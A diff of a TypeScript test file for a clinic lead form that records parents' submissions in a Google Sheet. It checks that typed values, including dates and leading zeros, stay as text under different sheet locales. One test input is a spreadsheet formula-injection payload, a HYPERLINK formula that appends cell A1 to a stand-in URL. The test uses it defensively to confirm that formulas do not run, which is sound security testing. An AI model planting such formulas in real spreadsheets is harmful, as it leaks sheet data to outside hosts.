@@ -2,7 +2,7 @@ import { booking, cells, deskHeader, google, header } from "./clinic.fixture";
 import { leadHeader, paste, post, receivedAt, rows } from "./clinic.fixture";
 import { setUp, tab, thanks } from "./clinic.fixture";
 import { leadForms } from "./lead.js";
-import { sampleLeads } from "@/components/lead-form/leads.fixture";
+import { sampleLeads } from "./leads.fixture.js";
 
 const minute = 60_000;
 const lead = [...Object.values(booking), receivedAt];
@@ -116,29 +116,20 @@ test.each<[string, string[][], string[][]]>([
   expect(google.mails).toHaveLength(1);
 });
 
-test("what a parent typed is text: Hindi, line breaks, a leading zero, and formulas that do not run", () => {
+test("in a sheet of any country, what a parent typed is text: a leading zero, a day, and a formula that does not run", () => {
+  const sheet = Object.assign(paste(), { isAmerican: true });
   const typed = {
     ...booking,
     parentName: '=HYPERLINK("http://example.com/?"&A1,"x")',
     phoneNumber: "09876543210",
-    serviceRequest: "मेरी बेटी 👨‍👩‍👧\nबोलती नहीं",
+    serviceRequest: "2019-08-24",
   };
+  setUp();
 
   post(typed);
 
-  expect(rows()[0]!.slice(0, -5)).toEqual(Object.values(typed));
-});
-
-test("a sheet of another country changes no day: those of a lead are texts, and the date to act again has a format", () => {
-  const sheet = Object.assign(paste(), { isAmerican: true });
-  setUp();
-
-  post({ ...booking, parentName: "1 2", serviceRequest: "2019-08-24" });
-
-  expect(rows()[0]).toEqual(
-    [...Object.values({ ...booking, parentName: "1 2", serviceRequest: "2019-08-24" }), receivedAt, ...desk], // prettier-ignore
-  );
-  // What people type is read as in India, with the day first.
+  expect(rows()).toEqual([[...Object.values(typed), receivedAt, ...desk]]);
+  // What people type is read as in India, with the day first; the date to act again has a format.
   expect(google.locales).toEqual({ [google.address]: "en_IN" });
   sheet.getRange(2, header.indexOf("next") + 1).setValue("2027-01-12");
   expect(cells("next")).toEqual(["2027-01-12"]);
